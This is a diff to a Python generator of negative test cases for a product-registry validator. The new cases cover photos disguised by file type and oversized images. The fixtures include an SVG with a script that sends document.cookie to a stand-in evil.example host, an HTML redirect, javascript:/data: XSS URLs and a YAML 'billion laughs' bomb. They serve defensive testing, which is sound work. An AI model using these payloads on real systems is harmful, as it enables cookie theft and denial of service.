@@ -36,6 +36,13 @@ SUCCESSOR = ("id: cn-hai-phong-2025-0003\nprovince: hai-phong\nsample: true\npro
              "decision: qd-hai-phong-2025-002\nstar: 4\nsupersedes: cn-hai-phong-2021-0001\n")
 ENTRY253 = "  - {product: sp-hai-phong-0002, certificate: cn-hai-phong-2025-0003, star: 4, action: re_recognition}"
 
+MEDIA = "registry/hai-phong/media/"
+PHOTO_PNG = "photos:\n  - registry/hai-phong/media/sp-hai-phong-0001.png\naddress:\n"
+PHOTO_JPG = "photos:\n  - registry/hai-phong/media/sp-hai-phong-0001.jpg\naddress:\n"
+SVG = ('<svg xmlns="http://www.w3.org/2000/svg" width="400" height="300" onload="alert(document.cookie)">\n'
+       '<script>fetch("https://evil.example/?c=" + document.cookie)</script>\n</svg>\n')
+HTML = '<!DOCTYPE html>\n<html><body><script>document.location = "https://evil.example/"</script></body></html>\n'
+
 BOMB = "".join([
     "id: sp-hai-phong-0001\n",
     'a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]\n',
@@ -144,6 +151,22 @@ TABLE: dict[str, tuple[str, str, int, str | int, dict]] = {
     "photo-url": ("SCHEMA", P1, 1, "- https://evil", {"replace": replaced(P1, ("address:\n", "photos:\n  - https://evil.example/x.png\naddress:\n"))}),
     "photo-backslash": ("SCHEMA", P1, 1, "- registry\\..", {"replace": replaced(P1, ("address:\n", "photos:\n  - registry\\..\\x.png\naddress:\n"))}),
     "photo-missing": ("REF-PHOTO", P1, 1, "- registry/hai-phong/media/khong-co", {"replace": replaced(P1, ("address:\n", "photos:\n  - registry/hai-phong/media/khong-co.png\naddress:\n"))}),
+    # --- photos: judged by content, not name; sizes read from the header, nothing decoded
+    "photo-svg-script-as-png": ("PHOTO-TYPE", MEDIA + "sp-hai-phong-0001.png", 1, 1, {
+        "write": {MEDIA + "sp-hai-phong-0001.png": SVG}, "replace": replaced(P1, ("address:\n", PHOTO_PNG))}),
+    "photo-html-as-jpg": ("PHOTO-TYPE", MEDIA + "sp-hai-phong-0001.jpg", 1, 1, {
+        "write": {MEDIA + "sp-hai-phong-0001.jpg": HTML}, "replace": replaced(P1, ("address:\n", PHOTO_JPG))}),
+    "photo-10000x10000-header": ("PHOTO-PIXELS", MEDIA + "sp-hai-phong-0001.png", 1, 1, {
+        "images": {MEDIA + "sp-hai-phong-0001.png": {"format": "png", "size": [10000, 10000], "header_only": True}},
+        "replace": replaced(P1, ("address:\n", PHOTO_PNG)), "measure": True}),
+    "photo-60mb": ("PHOTO-SIZE", MEDIA + "sp-hai-phong-0001.jpg", 1, 1, {
+        "images": {MEDIA + "sp-hai-phong-0001.jpg": {"format": "jpeg", "size": [64, 48], "pad": 60 * 1024 * 1024}},
+        "replace": replaced(P1, ("address:\n", PHOTO_JPG)), "measure": True}),
+    "photo-truncated-jpeg": ("PHOTO-UNREADABLE", MEDIA + "sp-hai-phong-0001.jpg", 1, 1, {
+        "images": {MEDIA + "sp-hai-phong-0001.jpg": {"format": "jpeg", "size": [400, 300], "drop_tail": 2000}},
+        "replace": replaced(P1, ("address:\n", PHOTO_JPG))}),
+    "photo-rejected-at-product": ("PHOTO-REJECTED", P1, 1, "- registry/hai-phong/media", {
+        "write": {MEDIA + "sp-hai-phong-0001.png": SVG}, "replace": replaced(P1, ("address:\n", PHOTO_PNG))}),
     "url-javascript": ("SCHEMA", P1, 1, "type: ecommerce", {"replace": replaced(P1, ('"https://example.com/shop/vai-thieu"', '"javascript:alert(1)"'))}),
     "url-data": ("SCHEMA", P1, 1, "type: ecommerce", {"replace": replaced(P1, ('"https://example.com/shop/vai-thieu"', '"data:text/html,<script>alert(1)</script>"'))}),
     # --- layout and identity
@@ -230,7 +253,7 @@ def main() -> None:
         (case / "overlay").mkdir(parents=True)
         content = edited_text(fields, rel)
         expect: dict = {"rule": rule_id, "file": rel, "line": line_of(content, at), "exit": code}
-        for key in ("today", "remove", "symlink", "generate", "measure", "git", "build", "encode"):
+        for key in ("today", "remove", "symlink", "generate", "measure", "git", "build", "encode", "images"):
             if key in fields:
                 expect[key] = fields[key]
         if "replace" in fields:  # `edits`, not `replace`: several edits per file (build_case_tree takes one)
